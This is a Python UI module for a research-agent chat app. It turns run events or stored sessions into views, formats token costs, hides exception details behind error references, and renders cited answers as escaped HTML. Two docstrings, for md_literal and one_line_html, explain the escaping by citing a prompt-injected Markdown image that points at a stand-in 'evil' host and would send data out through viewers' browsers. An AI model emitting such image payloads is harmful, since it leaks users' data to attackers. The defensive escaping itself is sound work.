"""What the research chat shows for one run, built from the service's typed events (live) or a stored session.

Plain Python, no Streamlit: the page only draws a `RunView`. The same view comes from events while the run is going
and from the SessionRecord when a past session is reopened, so both look the same.
"""

from __future__ import annotations

import html
import logging
import re
import secrets
from dataclasses import dataclass, field
from typing import Literal

from agent import parse
from agent.accounting import SessionUsage, format_cost, unpriced_models, usage_rows
from agent.report import Report, stored_report
from agent.support import STATUS_WORDS, support_sentence
from app import events as ev
from app.export import answer_html, web_url
from learning.evaluate import is_gate_reason, is_no_team_questions_reason, rejection_reference
from learning.judge.offline import plan_checklist
from store.records import STAGES, SessionRecord, Snippet

STAGE_TITLES = {"plan": "Plan", "research": "Research", "review": "Review", "answer": "Answer"}
StageState = Literal["waiting", "running", "complete"]


@dataclass
class SearchView:
    """One tool call: its query, then the sources it returned (or its error)."""

    tool: str
    query: str
    sources: tuple[Snippet, ...] = ()
    error: str | None = None
    done: bool = False


@dataclass
class StageView:
    """One stage of the scaffold as the user sees it."""

    stage: str
    state: StageState = "waiting"
    texts: list[str] = field(default_factory=list)  # the model's turns in this stage, tags stripped
    searches: list[SearchView] = field(default_factory=list)

    @property
    def title(self) -> str:
        return STAGE_TITLES.get(self.stage, self.stage)


@dataclass
class RunView:
    """Everything the chat shows about one research run."""

    question: str
    session_id: str | None = None
    policy_version: str | None = None
    status: Literal["running", "completed", "failed"] = "running"
    stages: dict[str, StageView] = field(default_factory=lambda: {s: StageView(s) for s in STAGES})
    checklist: list[str] = field(default_factory=list)  # the agent's own rubric, from its plan
    bank_mode: str | None = None  # "within" (this question's earlier reflection) or "cross" (similar questions)
    bank_items: list[ev.BankReference] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    report: Report | None = None
    error: str | None = None
    _plan_text: str = ""

    # ---- live -------------------------------------------------------------------------------------------------

    def apply(self, e: ev.Event) -> None:
        """Fold one event into the view."""
        match e:
            case ev.SessionStarted(session_id=sid, policy_version=version):
                self.session_id, self.policy_version = sid, version
            case ev.ReferencesInjected(mode=mode, items=items):
                self.bank_mode, self.bank_items = mode, list(items)
            case ev.StageStarted(stage=stage):
                self._enter(stage)
            case ev.SearchIssued(tool=tool, query=query):
                self._enter("research")
                self.stages["research"].searches.append(SearchView(tool, query))
            case ev.SourcesFound(tool=tool, query=query, sources=sources, error=error):
                self._found(tool, query, sources, error)
            case ev.TurnWritten(stage=stage, kind=kind, text=text):
                self._turn(stage, kind, text)
            case ev.Note(kind=kind, data=data):
                if text := _note_text(kind, data):
                    self.notes.append(text)
            case ev.RunFailed(session_id=sid, error=error):
                self.session_id = self.session_id or sid
                self.status, self.error = "failed", error
                self._finish_stages()
            case _:
                pass

    def complete(self, report: Report) -> None:
        """The run finished with this report."""
        self.report = report
        self.status = "completed"
        self._finish_stages()

    def _enter(self, stage: str) -> None:
        if stage not in self.stages:
            return
        for name in STAGES[: STAGES.index(stage)]:
            if self.stages[name].state != "waiting":
                self.stages[name].state = "complete"
        self.stages[stage].state = "running"

    def _finish_stages(self) -> None:
        for view in self.stages.values():
            if view.state == "running":
                view.state = "complete"

    def _found(self, tool: str, query: str, sources: tuple[Snippet, ...], error: str | None) -> None:
        searches = self.stages["research"].searches
        pending = next((s for s in reversed(searches) if not s.done and s.tool == tool and s.query == query), None)
        if pending is None:
            pending = SearchView(tool, query)
            searches.append(pending)
        pending.sources, pending.error, pending.done = sources, error, True

    def _turn(self, stage: str, kind: str, text: str) -> None:
        if stage not in self.stages or kind == "tool_output":  # tool output is shown as sources, not as text
            return
        if self.stages[stage].state == "waiting":
            self._enter(stage)
        shown = readable(text)
        if shown:
            self.stages[stage].texts.append(shown)
        if stage == "plan":
            self._plan_text += text
            self.checklist = plan_checklist(self._plan_text)

    # ---- stored -----------------------------------------------------------------------------------------------

    @classmethod
    def from_record(cls, record: SessionRecord) -> RunView:
        """The view of a stored session (completed, failed or still running)."""
        view = cls(question=record.question, session_id=record.session_id, policy_version=record.policy_version)
        traj = record.trajectory
        calls = iter(traj.tool_calls)
        for turn in traj.turns:
            view._turn(turn.stage, turn.kind, turn.text)
            if turn.kind == "tool_output" and (call := next(calls, None)) is not None:
                view.stages["research"].searches.append(
                    SearchView(call.tool, call.query, call.snippets, call.error, done=True))
        for call in calls:  # calls without a recorded tool turn (a crash in between)
            view.stages["research"].searches.append(SearchView(call.tool, call.query, call.snippets, call.error, True))
        bank = record.metrics.get("bank") if isinstance(record.metrics, dict) else None
        if isinstance(bank, dict) and bank.get("items"):
            view.bank_mode = str(bank.get("mode"))
            view.bank_items = [ev.BankReference(str(i.get("id")), "", float(i.get("similarity", 0.0)))
                               for i in bank["items"] if isinstance(i, dict)]
        if record.status == "completed":
            view.complete(stored_report(record))
        elif record.status == "failed":
            view.status, view.error = "failed", record.error or "the run failed"
            view._finish_stages()
        return view


def usage_table(usage: SessionUsage) -> list[dict[str, object]]:
    """The session's tokens-and-cost table (`agent.accounting.usage_rows`) as rows for a data frame: one per stage,
    the policy's total, the judge, the session total."""
    return [{"": r.label, "calls": r.calls, "prompt tokens": r.prompt_tokens, "output tokens": r.output_tokens,
             "cost": format_cost(r.cost), "note": r.note} for r in usage_rows(usage)]


def usage_summary(usage: SessionUsage) -> str:
    """One line: tokens read and written by the policy and the judge together, and the total cost."""
    read = usage.prompt_tokens + usage.judge_prompt_tokens
    written = usage.sampled_tokens + usage.judge_completion_tokens
    return f"{read:,} tokens read, {written:,} written · cost {format_cost(usage.total_cost)}"


def usage_note(usage: SessionUsage) -> str:
    """Why a cost is unknown (empty when none is)."""
    missing = unpriced_models(usage)
    return f"Unknown cost: the price table (RUBRICEM_PRICES) does not list {', '.join(missing)}." if missing else ""


def readable(text: str) -> str:
    """A turn's text for people: <think> dropped, tags removed, tool-call markup shown as plain text."""
    return " ".join(parse.strip_tags(parse.strip_think(text)).split()) if text.strip() else ""


_MD_SPECIAL = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation mark (CommonMark escapes them all)


def md_literal(text: str) -> str:
    """Text shown literally inside Streamlit Markdown (st.markdown, st.caption, st.info, st.warning, st.error, widget
    labels): on one line, every ASCII punctuation mark backslash-escaped.

    Model, tool, web and other people's text (queries, tool names and errors, titles, checklist items, questions)
    then never renders as an image, a link or HTML: a prompt-injected `![](https://evil/?q=...)` would make every
    viewer's browser fetch that URL, an admin's included. Escaping `:` and `/` also stops GFM's bare-URL autolinks
    (`https\\:\\/\\/...`) and Streamlit's `:color[...]` and `:emoji:` directives; `$` stops LaTeX; `&` entities.
    """
    return _MD_SPECIAL.sub(r"\\\1", " ".join(text.split()))


_log = logging.getLogger("app.ui")


def error_reference(what: str, exc: BaseException | str) -> str:
    """The message the page shows for a failure: `what` went wrong, and a short reference to its log line.

    Exception text names hosts, paths, ports and sometimes queries; it goes to the app's log (with the traceback)
    under the reference, never onto the page, which any signed-in person may be looking at.
    """
    ref = secrets.token_hex(4)
    if isinstance(exc, BaseException):
        _log.error("%s [error %s]: %s: %s", what, ref, type(exc).__name__, exc, exc_info=exc)
    else:
        _log.error("%s [error %s]: %s", what, ref, exc)
    return f"{what} (error reference `{ref}`; the details are in the app's log)."


# Failure reasons of the app's own that name nothing about the deployment: shown as they are. Any other stored
# failure is exception text (hosts, paths) and is replaced by a reference (`failure_text`).
_KNOWN_FAILURES = re.compile(
    r"the user rejected the plan|the (plan|clarifying question) waited (for approval|for an answer) past "
    r"[0-9T:+\-]+ and expired")


def failure_text(view: RunView) -> str:
    """What the page says about a failed run: a known reason as it is, else a generic line whose reference is the
    session (its stored error keeps the exception text, for admins and `rubricem` commands, never for the page)."""
    error = view.error or ""
    if _KNOWN_FAILURES.fullmatch(error):
        return f"The run ended: {md_literal(error)}."
    if view.session_id is None:  # the page shows the exception's own reference (`error_reference`) below
        return "The run failed before its session was created."
    sid = re.sub(r"[^A-Za-z0-9_-]", "", view.session_id)
    return f"The run failed (error reference: session `{sid}`; the details are in the session log)."


def cycle_reason(status: str, cycle_id: str, reason: str | None, *, admin: bool = False) -> str:
    """What the Learning page says about a retraining cycle's outcome. A failed cycle's stored reason is exception
    text (hosts, paths) and every signed-in person may open the page: it gets a generic line whose reference is the
    cycle, as a failed run's is its session (the operator reads the text in `rubricem versions` and the trainer's
    log). A rejected cycle's reason goes through `rejection_text`. Skips and the gate's decisions are the app's own
    sentences, shown as they are."""
    if status == "rejected":
        return rejection_text(reason, f"cycle {cycle_id}", admin=admin)
    if status != "failed":
        return reason or ""
    ref = re.sub(r"[^A-Za-z0-9_-]", "", cycle_id)
    return f"The cycle failed (error reference: cycle {ref}; the details are in the retraining log)."


def version_reason(status: str, version: str, reason: str | None, *, admin: bool = False) -> str:
    """What the Learning page's versions table says about why a version is where it is: a rejected one's reason
    through `rejection_text`; a promotion's (the gate's sentence, or an admin's words) as it is."""
    if status == "rejected":
        return rejection_text(reason, f"version {version}", admin=admin)
    return reason or ""


def rejection_text(reason: str | None, fallback: str, *, admin: bool) -> str:
    """Why a candidate was rejected, for this viewer (issue 65, finding 13).

    The gate's own sentences (numbers only, the global gate's and a team's alike) are shown to everyone, and so is the
    team gate's refusal to gate without team questions (fixed words and the team's name). Any other reason (an
    adapter that cannot be served) names server paths and exception text: admins see it whole; everyone else gets one
    fixed sentence and its error reference, which the trainer logged with the whole reason. A reason stored without a
    reference (before issue 65) is referred to by `fallback` (the cycle or version, whose reason `rubricem versions`
    shows).
    """
    text = reason or ""
    # The team gate's refusal (`is_no_team_questions_reason`, the template `learning.pipeline` writes it from) is
    # fixed words and the team's name, like the gate's numeric sentences; only the team's own people and admins
    # see its versions and cycles.
    if admin or not text or is_gate_reason(text) or is_no_team_questions_reason(text):
        return text
    ref = rejection_reference(text) or re.sub(r"[^A-Za-z0-9_@: -]", "", fallback)
    return f"The candidate was rejected (error reference: {ref}; the details are in the retraining log)."


def _note_text(kind: str, data: dict[str, object]) -> str:
    match kind:
        case "research_stopped":
            return f"Research stopped ({data.get('reason')}) after {data.get('tool_calls')} tool calls."
        case "dropped":
            return f"A {data.get('stage')} sample was dropped: {data.get('reason')}."
        case "bank_unavailable":
            return f"The rubric bank was unavailable; researched without references ({data.get('error')})."
        case "policy_swapped":
            return f"Now serving policy version {data.get('version')}."
        case "policy_swap_failed":
            return f"Could not switch to the newest policy version: {data.get('error')}."
        case "team_policy_fallback":
            return f"Your team's policy could not serve this session; the global policy did ({data.get('error')})."
        case "attribution_failed":
            return f"References could not be matched to the answer after writing ({data.get('error')})."
        case _:
            return ""


# ---- citations ----------------------------------------------------------------------------------------------------


def anchor_prefix(session_id: str) -> str:
    """The start of a session's reference ids (unique on a page showing several answers)."""
    return f"ref-{re.sub(r'[^A-Za-z0-9_-]', '', session_id)}-"


def anchor(session_id: str, number: int) -> str:
    """The HTML id of reference `number` of a session."""
    return f"{anchor_prefix(session_id)}{number}"


_LINE_ENDING = re.compile(r"\r\n|\r|\n")  # CommonMark's line endings


def one_line_html(fragment: str) -> str:
    """An HTML fragment for `st.markdown(..., unsafe_allow_html=True)`: the same fragment on one line.

    Streamlit's Markdown parser hands a raw-HTML block to the browser only up to its first blank line, and reads what
    follows as Markdown again: a blank line in a model's fenced block or in a tool's URL would turn the `![x](url)`
    after it into an image every viewer fetches. Each line ending becomes `&#10;`, which the browser's HTML parser
    reads back as the same line feed (code blocks keep their lines), so no line, blank or not, is left to end the
    block. The fragment must start with a block tag (`<div`, `<ol`) for the parser to take it as one HTML block.
    """
    return _LINE_ENDING.sub("&#10;", fragment)


def support_caption(report: Report) -> str | None:
    """The support check in one line under the answer (the report's own sentence), or None when there was nothing
    to check."""
    return support_sentence(report.support) if report.support is not None else None


def support_rows(report: Report) -> list[dict[str, object]]:
    """Each checked claim as a data-frame row (plain text: the sentence is the model's, never rendered): the
    sentence, what became of its citation, its support, and the reference numbers it cites now."""
    if report.support is None:
        return []
    number = {s.id: n for n, s in enumerate(report.references, 1)}
    return [{"sentence": c.text, "citation": STATUS_WORDS[c.status], "support": round(c.score, 2),
             "cites": " ".join(f"[{number[i]}]" for i in c.kept if i in number)} for c in report.support.claims]


def cited_html(report: Report, session_id: str) -> str:
    """The answer as safe HTML (the export's renderer: Markdown drawn, raw HTML escaped, images off), its [n] markers
    linked to this session's entries in the references panel; one line (`one_line_html`)."""
    body = answer_html(report.body, len(report.references), anchor_prefix(session_id))
    return one_line_html(f'<div class="answer">{body}</div>')


def references_html(report: Report, session_id: str) -> str:
    """The references panel: number, title, link (http/https only) or location (any other URL, on one line) or
    document id, and the snippet, escaped; one line (`one_line_html`)."""
    items = []
    for n, s in enumerate(report.references, 1):
        title = html.escape(" ".join(s.title.split()) or s.id)
        where = (f'<a href="{html.escape(s.url, quote=True)}" target="_blank" rel="noopener noreferrer">'
                 f"{html.escape(s.url)}</a>" if web_url(s.url)
                 else f"<code>{html.escape(' '.join((s.url or s.id).split()))}</code>")
        snippet = html.escape(" ".join(s.text.split())[:600])
        items.append(f'<li id="{anchor(session_id, n)}" class="ref"><b>[{n}] {title}</b> · {where} '
                     f"<small>({html.escape(s.tool)})</small><br><small>{snippet}</small></li>")
    return one_line_html('<ol class="refs">' + "".join(items) + "</ol>") if items else ""
